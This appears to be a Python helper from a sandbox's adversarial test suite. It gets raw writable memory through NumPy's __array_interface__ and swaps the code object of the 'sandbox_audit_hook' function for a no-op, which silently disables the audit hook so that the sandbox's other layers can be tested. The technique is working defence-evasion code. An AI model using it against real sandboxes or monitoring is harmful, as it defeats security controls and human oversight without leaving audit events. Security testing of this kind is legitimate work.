"""Prelude inlined into attacks that first get rid of the friendly audit hook.

Not a submission by itself. NumPy's ``__array_interface__`` turns any address into an
array, so a submission can read and write its own memory without ctypes and without a
single audit event; ``unhook`` uses that to point the audit hook's ``func_code`` at a
no-op's. The sandbox documents the hook as wording only: with it gone, the namespaces,
the read-only jail, the uid and seccomp must still refuse everything.
"""

import gc as _gc
import types as _types

import numpy as _np


class _Raw:
    def __init__(self, address, count, typestr):
        self.__array_interface__ = {"data": (address, False), "shape": (count,), "typestr": typestr, "version": 3}


def raw(address, count, typestr="<u8"):
    """``count`` items at ``address`` as a writable array (no copy, no audit event)."""
    return _np.asarray(_Raw(address, count, typestr))


_KEEP = []


def unhook():
    """Make every audit hook in this process a no-op; returns how many were found."""

    def noop(event, args, *rest):
        return None

    _KEEP.append(noop)
    found = 0
    for obj in _gc.get_objects():
        if type(obj) is _types.FunctionType and obj.__name__ == "sandbox_audit_hook":
            words = raw(id(obj), 8)
            for index in range(8):
                if words[index] == id(obj.__code__):
                    words[index] = id(noop.__code__)
                    found += 1
                    break
    return found
